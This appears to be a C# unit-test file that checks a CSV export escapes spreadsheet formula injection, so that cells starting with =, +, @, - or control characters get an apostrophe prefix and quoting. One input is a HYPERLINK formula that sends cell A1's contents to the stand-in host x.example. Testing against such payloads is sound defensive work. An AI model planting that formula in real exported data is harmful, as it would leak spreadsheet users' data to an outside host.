using RoiReport.Core.Benchmarks;
using RoiReport.Core.Contract;
using RoiReport.Core.Tests.Disclosure;

namespace RoiReport.Core.Tests.Contract;

public sealed class CsvTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"Retail\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Retail\"\")\"")]
    [InlineData("+SUM(1+1)", "\"'+SUM(1+1)\"")]
    [InlineData("@SUM(1)", "\"'@SUM(1)\"")]
    [InlineData("-2+3", "\"'-2+3\"")]
    [InlineData("\tcmd", "\"'\tcmd\"")]
    [InlineData("\rcmd", "\"'\rcmd\"")]
    public void Text_a_spreadsheet_would_run_is_quoted_after_an_apostrophe(string label, string field) =>
        Assert.Equal(field, CsvText.Field(label));

    [Theory]
    [InlineData("Retail", "Retail")]
    [InlineData("10-49", "10-49")]
    [InlineData("Health & fitness", "Health & fitness")]
    [InlineData("Food, drink", "\"Food, drink\"")]
    [InlineData("a \"b\"", "\"a \"\"b\"\"\"")]
    public void Plain_text_is_left_as_it_is_or_quoted_by_RFC_4180(string label, string field) =>
        Assert.Equal(field, CsvText.Field(label));

    [Fact]
    public void Negative_numbers_stay_numbers() => Assert.Equal("-12.5", CsvText.Number(-12.5));

    [Fact]
    public void The_benchmark_csv_neutralises_labels_and_keeps_negative_figures()
    {
        var rows = Firms.Cell("B2B", "=1+1", null, 30, centre: -40).ToList();
        var report = BenchmarkEngine.Compute(rows, BenchmarkSettings.Default);
        using var text = new StringWriter();
        BenchmarkCsv.Write(report, text);
        var lines = text.ToString().Split('\n');
        Assert.Contains(lines, l => l.StartsWith("2025,B2B,\"'=1+1\",,", StringComparison.Ordinal));
        var group = report.Groups.First(g => g.Key.Industry == "=1+1" && g.Key.Segment == "B2B");
        Assert.True(group.HourlyReturn!.P25 < 0);
        Assert.Contains(lines, l => l.Contains($",{CsvText.Number(group.HourlyReturn.P25)},", StringComparison.Ordinal) && l.Contains("-", StringComparison.Ordinal));
    }
}
